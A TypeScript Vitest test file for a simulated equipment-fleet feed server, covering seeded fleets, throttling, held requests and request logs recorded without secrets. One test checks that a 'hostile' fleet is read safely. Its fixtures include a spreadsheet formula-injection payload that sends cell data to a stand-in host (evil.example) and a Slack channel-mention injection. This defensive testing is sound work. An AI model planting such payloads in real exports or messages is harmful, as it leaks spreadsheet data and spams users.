import { afterAll, beforeAll, expect, test } from 'vitest'
import { createFeed } from '../../../adapters/feeds/create-feed.ts'
import { type LocalFeeds, startFeeds } from '../../../playground/feeds/start-feeds.ts'

let feeds: LocalFeeds
let feed: ReturnType<typeof createFeed>
beforeAll(async () => {
  feeds = await startFeeds()
  feed = createFeed({ allowedHosts: feeds.allowedHosts, hosts: feeds.hosts, now: () => new Date(), log: { warn() {} } })
})
afterAll(async () => {
  await feed.close()
  await feeds.close()
})

const read = () => feed.readPage({ oem: 'other', credentials: feeds.credentials.other }, null)

test('every app of the catalogue has simulated credentials for what its form requires', () => {
  const asked = feed.catalogue.flatMap(({ oem, fields }) =>
    fields.filter(one => one.required).map(({ id }) => ({ oem, id })),
  )
  expect(asked.length).toBeGreaterThan(feed.catalogue.length)
  expect(asked.filter(({ oem, id }) => !feeds.credentials[oem][id])).toEqual([])
})

test('the same seed makes the same fleet, and every machine is different', async () => {
  const again = await startFeeds({ now: () => new Date(0) })
  const first = again.plain.fleet.add(500)
  await again.close()
  const once = await startFeeds({ now: () => new Date(0) })
  expect(once.plain.fleet.add(500)).toEqual(first)
  await once.close()
  expect(new Set(first.map(one => one.pin)).size).toBe(500)
  expect(new Set(first.map(one => one.serialNumber)).size).toBe(500)
})

test('a fleet grows, shrinks and works', async () => {
  feeds.plain.fleet.setFleet([])
  const [machine] = feeds.plain.fleet.add(3, { make: 'Bell', model: 'B30E' })
  feeds.plain.fleet.tick()
  const answer = await read()
  expect(answer).toMatchObject({ kind: 'page', equipment: [{ oemName: 'Bell', model: 'B30E' }, {}, {}] })
  if (answer.kind === 'page') expect(answer.equipment[0]?.operatingHours).toBeGreaterThan(machine?.operatingHours ?? 0)
  expect(feeds.plain.fleet.remove(one => one.pin === machine?.pin)).toBe(1)
  expect(feeds.plain.fleet.remove(5)).toBe(2)
  expect(await read()).toMatchObject({ kind: 'page', equipment: [] })
})

test('a hostile fleet is read without harm, and every oddity is reported', async () => {
  feeds.plain.fleet.setFleet([])
  const machines = feeds.plain.fleet.add(100, { hostile: true })
  const answer = await read()
  if (answer.kind !== 'page') return expect.unreachable()
  const nameless = machines.filter(one => one.pin === null && one.serialNumber === null).length
  expect(nameless).toBeGreaterThan(0)
  expect(answer.oddities).toHaveLength(nameless)
  expect(answer.equipment).toHaveLength(100 - nameless)
  const texts = new Set(answer.equipment.map(one => one.equipmentId))
  expect(texts).toContain('<!channel> free diesel')
  expect(texts).toContain('=HYPERLINK("http://evil.example/?c="&A1,"Click")')
})

test('a held request hangs until it is released', async () => {
  feeds.plain.forgetRequests()
  feeds.plain.hold()
  let answered = false
  const answer = read().then(one => {
    answered = true
    return one
  })
  await feeds.plain.held()
  expect(answered).toBe(false)
  feeds.plain.release()
  expect(await answer).toMatchObject({ kind: 'page' })
})

test('a throttle can last for some requests only', async () => {
  feeds.plain.throttle(1, 2)
  expect([(await read()).kind, (await read()).kind, (await read()).kind]).toEqual(['throttled', 'throttled', 'page'])
})

test('requests are recorded without secrets', async () => {
  feeds.caterpillar.forgetRequests()
  await feed.readPage({ oem: 'caterpillar', credentials: feeds.credentials.caterpillar }, null)
  expect(feeds.caterpillar.requests).toMatchObject([
    { kind: 'login', path: '/token', status: 200 },
    { kind: 'page', path: '/fleet/1', status: 200 },
  ])
  expect(JSON.stringify(feeds.caterpillar.requests)).not.toContain('7Q')
})

test('the server can start again on its port', async () => {
  const one = await startFeeds()
  await one.close()
  const two = await startFeeds({ port: one.port })
  expect(two.url).toBe(one.url)
  await two.close()
})
